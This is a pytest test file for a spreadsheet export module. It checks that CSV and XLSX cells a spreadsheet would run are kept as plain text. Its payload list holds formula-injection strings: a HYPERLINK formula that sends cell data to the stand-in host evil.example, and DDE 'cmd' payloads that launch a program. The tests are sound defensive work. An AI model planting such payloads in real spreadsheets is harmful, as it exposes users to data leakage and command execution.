"""The one CSV/XLSX writer (onegate/exports.py): a cell a spreadsheet would run comes back as the text
that was typed, in CSV (read with the csv module) and in XLSX (read with openpyxl)."""

import csv
import io
import zipfile

import pytest
from openpyxl import load_workbook

from onegate import exports

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A2,"Klik")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def read_csv(text: str) -> list[list[str]]:
    assert text.startswith(exports.CSV_BOM)
    return list(csv.reader(io.StringIO(text[1:])))


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_csv_cell_a_spreadsheet_would_run_is_prefixed_so_it_shows_as_typed(formula):
    rows = read_csv(exports.csv_text(["nama", "umur"], [[formula, 40]]))
    assert rows == [["nama", "umur"], ["'" + formula, "40"]]


def test_csv_leaves_plain_text_numbers_and_empty_cells_alone():
    rows = read_csv(exports.csv_text(["a", "b", "c", "d"], [["Sutrisno = ayah", -5, None, "3576"]]))
    assert rows[1] == ["Sutrisno = ayah", "-5", "", "3576"]


def test_csv_lines_stream_one_line_per_row():
    lines = list(exports.csv_lines(["nama"], [["Ani"], ["=1+1"]]))
    assert lines == [exports.CSV_BOM + "nama\r\n", "Ani\r\n", "'=1+1\r\n"]


def test_csv_sections_write_tables_one_after_the_other_with_one_bom():
    text = exports.csv_sections([("Tabel 1", ["a"], [["=1+1"]]), ("=Tabel 2", ["b"], [[2]])])
    assert text.count(exports.CSV_BOM) == 1
    assert read_csv(text) == [["Tabel 1"], ["a"], ["'=1+1"], [], ["'=Tabel 2"], ["b"], ["2"]]


def test_csv_without_bom_for_machine_readers():
    assert exports.csv_text(["a"], [["-x"]], bom=False) == "a\r\n'-x\r\n"


@pytest.mark.parametrize("formula", FORMULAS)
def test_an_xlsx_cell_is_text_never_a_formula(formula):
    content = exports.xlsx_single("penduduk", ["nama", "umur"], [[formula, 40]])
    sheet = load_workbook(io.BytesIO(content)).active
    name, age = sheet["A2"], sheet["B2"]
    assert name.data_type == "s" and name.value in (formula, formula.replace("\r", "\n"))  # XML reads CR as LF
    assert name.quotePrefix  # as Excel marks a typed '=…
    assert age.value == 40 and age.data_type == "n"
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml


def test_xlsx_sheets_keep_their_order_and_valid_titles():
    content = exports.xlsx_bytes([("1 Rekap: per [kelurahan]?", ["a"], [[1]]), ("2", ["b"], [["x"]])])
    book = load_workbook(io.BytesIO(content))
    assert book.sheetnames == ["1 Rekap  per  kelurahan", "2"]
    assert [c.value for c in book["2"]["A"]] == ["b", "x"]
